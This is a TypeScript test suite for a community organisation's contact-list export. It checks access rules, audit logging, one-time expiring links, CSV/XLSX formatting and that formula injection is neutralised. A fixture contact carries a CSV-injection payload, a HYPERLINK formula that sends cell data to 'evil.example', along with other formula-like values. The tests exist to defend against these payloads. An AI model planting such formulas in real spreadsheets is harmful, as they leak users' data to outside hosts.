// Exports of the contact list: organisers only (leaders are told why), audited, a
// one-time link valid ten minutes, CSV for French Excel (UTF-8 BOM, `;`) or XLSX,
// streamed in keyset pages, formula injection neutralised, other organisations' people never in it.
import ExcelJS from 'exceljs';
import { startTestApp, registerOrganization, addMember, type TestApp } from '../support/test-app.js';
import { createContact, errorOf } from '../support/campaign-fixtures.js';

const EXPORT = `mutation($f: ContactFilter, $format: ExportFormat) { exportContacts(filter: $f, format: $format) }`;

describe('exports', () => {
  let t: TestApp;
  let token: string;
  let orgId: string;
  let leader: string;
  let other: { token: string };

  const link = async (variables: Record<string, unknown> = {}, as = token) => (await t.ok<{ exportContacts: string }>(EXPORT, variables, as)).exportContacts;
  const download = (url: string) => fetch(url.startsWith('http') ? url : `${t.url}${url}`);
  const csvRows = (text: string) =>
    text
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean);

  beforeAll(async () => {
    t = await startTestApp();
    const org = await registerOrganization(t, 'Si on s’alliait');
    token = org.token;
    orgId = org.organization.id;
    leader = (await addMember(t, token, 'LEADER')).token;
    other = await registerOrganization(t, 'Autre association');
    await createContact(t, token, {
      firstName: 'Hélène',
      lastName: '=HYPERLINK("http://evil.example/?"&A1,"voir")',
      phone: '06 12 34 56 78',
      email: 'helene@mail.example',
      street: '-2+3',
      building: 'Bât. Oiseaux; entrée B',
      postalCode: '35000',
      city: 'Rennes',
      neighbourhood: 'Villejean',
      languages: ['français', 'arabe'],
      tags: ['@SUM(1)', 'locataire'],
      isLeader: true,
    });
    await createContact(t, token, { firstName: 'Karim', lastName: 'Benali', tags: ['locataire'] });
    await createContact(t, token, { firstName: 'Awa', lastName: 'Diallo' });
    await t.ok(
      `mutation($c: ID!) { logConversation(input: { kind: DOOR_KNOCK, outcome: TALKED, contactId: $c, occurredAt: "2026-03-01T10:00:00Z" }) { id } }`,
      {
        c: await createContact(t, token, { firstName: 'Zoé', lastName: 'Martin' }),
      },
      token,
    );
    await createContact(t, other.token, { firstName: 'Secrète', lastName: 'Ailleurs', phone: '07 00 00 00 01' });
  });
  afterAll(() => t?.close());

  it('a CSV for French Excel: UTF-8 BOM, `;`, every field, formula cells neutralised, only our organisation', async () => {
    const url = await link();
    expect(url).toMatch(/^\/exports\/[0-9a-f-]{36}\.[A-Za-z0-9_-]{43}$/);
    const res = await download(url);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="rapport-contacts-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    const rows = csvRows(text);
    expect(rows[0]).toBe(
      'Prénom;Nom;Téléphone;E-mail;Rue;Bâtiment;Code postal;Ville;Quartier;Langues;Rôles;Leader;Étiquettes;Consentement;Adhésion;Adhésion jusqu’au;Dernière conversation',
    );
    expect(rows).toHaveLength(5); // header and our four people, in the list's order (last name, first name)
    expect(rows.slice(1).map((r) => r.split(';')[0])).toEqual(['Hélène', 'Karim', 'Awa', 'Zoé']);
    const helene = rows[1];
    // Quoted because of the inner quote, and the formula neutralised by a leading apostrophe.
    expect(helene).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""voir"")"`);
    expect(helene).toContain(";'+33612345678;"); // "+…" is a formula to Excel too
    expect(helene).toContain(";'-2+3;");
    expect(helene).toContain(';"Bât. Oiseaux; entrée B";');
    expect(helene).toContain(";'@SUM(1), locataire;");
    expect(helene).toContain(';français, arabe;');
    expect(helene).toContain(';oui;');
    expect(helene).toContain(';NEVER;');
    expect(rows[4].endsWith(';2026-03-01')).toBe(true); // last conversation date
    expect(text).not.toContain('Secrète');
    expect(text).not.toContain('+33700000001');
    for (const row of rows.slice(1)) expect(row).not.toMatch(/(^|;)[=+\-@]/);
  });

  it('works once: a second download is 410, an unknown link 404', async () => {
    const url = await link();
    expect((await download(url)).status).toBe(200);
    const again = await download(url);
    expect(again.status).toBe(410);
    expect(await again.text()).toMatch(/already used or has expired/);
    expect((await download(url.replace(/\.[^.]+$/, '.' + 'A'.repeat(43)))).status).toBe(404);
    expect((await download('/exports/nothing-here')).status).toBe(404);
  });

  it('expires after ten minutes (the clock moved forward in the database)', async () => {
    const url = await link();
    const { rows } = await t.db.query(
      `SELECT round(extract(epoch FROM expires_at - created_at))::int AS seconds FROM contact_exports ORDER BY created_at DESC LIMIT 1`,
    );
    expect(rows[0].seconds).toBe(600);
    await t.db.query(`UPDATE contact_exports SET expires_at = now() - interval '1 second' WHERE used_at IS NULL`);
    expect((await download(url)).status).toBe(410);
  });

  it('stores only a hash of the link’s secret, and audits the export', async () => {
    const url = await link();
    const secret = url.split('.').pop()!;
    const { rows } = await t.db.query(`SELECT to_jsonb(e)::text AS row FROM contact_exports e WHERE organization_id = $1`, [orgId]);
    for (const { row } of rows) expect(row).not.toContain(secret);
    const audit = (await t.ok(`{ auditLog { action subjectType } }`, {}, token)).auditLog;
    expect(audit.filter((a: { action: string }) => a.action === 'EXPORT_CONTACTS').length).toBeGreaterThanOrEqual(4);
  });

  it('uses the contacts list’s filter', async () => {
    const text = await (await download(await link({ f: { tag: 'locataire' } }))).text();
    expect(
      csvRows(text)
        .slice(1)
        .map((r) => r.split(';')[0]),
    ).toEqual(['Hélène', 'Karim']);
    expect(errorOf(await t.gql(EXPORT, { f: { search: 'x'.repeat(201) } }, token))).toMatchObject({ code: 'BAD_USER_INPUT', field: 'filter.search' });
  });

  it('a leader gets FORBIDDEN with the reason, and no export is written', async () => {
    const before = (await t.db.query(`SELECT count(*)::int AS n FROM contact_exports`)).rows[0].n;
    const res = await t.gql(EXPORT, {}, leader);
    const error = errorOf(res);
    expect(error.code).toBe('FORBIDDEN');
    expect(error.message).toMatch(/Only organisers may export the contact list/);
    expect((res.errors![0].extensions as Record<string, unknown>).reason).toBe('Mutation.exportContacts');
    expect((await t.db.query(`SELECT count(*)::int AS n FROM contact_exports`)).rows[0].n).toBe(before);
  });

  it('an XLSX opens with exceljs and has the rows, neutralised too', async () => {
    const res = await download(await link({ format: 'XLSX' }));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await res.arrayBuffer()) as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const values = sheet.getSheetValues().filter(Boolean) as unknown[][];
    expect(values).toHaveLength(5);
    expect(values[0][1]).toBe('Prénom');
    expect(values.slice(1).map((r) => r[1])).toEqual(['Hélène', 'Karim', 'Awa', 'Zoé']);
    expect(values[1][2]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"voir")`);
  });

  it('streams a long list in keyset pages of 1,000 rows, in name order, none missed or repeated', async () => {
    await t.db.query(
      `INSERT INTO contacts (organization_id, first_name, last_name, search_text, sort_key)
       SELECT $1, 'P' || i, 'Nom' || lpad(i::text, 5, '0'), 'p' || i, 'nom' || lpad(i::text, 5, '0') || ' p' || i FROM generate_series(1, 2500) AS i`,
      [orgId],
    );
    const url = await link();
    const { result: text, statements } = await t.sql.count(async () => (await download(url)).text());
    const rows = csvRows(text).slice(1);
    expect(rows).toHaveLength(2504);
    const generated = rows.map((r) => r.split(';')[1]).filter((n) => n.startsWith('Nom'));
    expect(generated).toHaveLength(2500);
    expect(new Set(generated).size).toBe(2500);
    expect(generated).toEqual([...generated].sort());
    expect(statements.filter((s) => /LIMIT 1000/.test(s)).length).toBe(3);
  });
});
